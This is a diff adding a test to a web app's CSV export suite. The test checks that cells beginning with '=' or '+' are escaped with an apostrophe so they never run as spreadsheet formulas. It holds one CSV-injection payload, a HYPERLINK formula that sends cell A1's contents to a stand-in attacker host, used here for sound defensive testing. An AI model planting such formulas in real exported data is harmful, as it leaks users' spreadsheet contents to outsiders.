@@ -22,6 +22,17 @@ def test_csv_export_follows_the_filters(client, make_practice):
     assert rows[0]["state"] == "TJ" and rows[0]["topics"] == "prisons"
 
 
+def test_csv_export_cells_never_run_as_spreadsheet_formulas(client, make_practice):
+    make_practice(title='=HYPERLINK("http://evil.example/?leak="&A1,"Open")')
+    make_practice(title="+7 727 000 00 00 hotline", summary="@once")
+    text = client.get("/library/export.csv").data.decode("utf-8-sig")
+    titles = sorted(r["title"] for r in csv.DictReader(io.StringIO(text)))
+    assert titles == [
+        "'+7 727 000 00 00 hotline",
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    ]
+
+
 def test_json_export_covers_every_page_and_the_readers_language(client, make_practice):
     for i in range(30):
         make_practice(
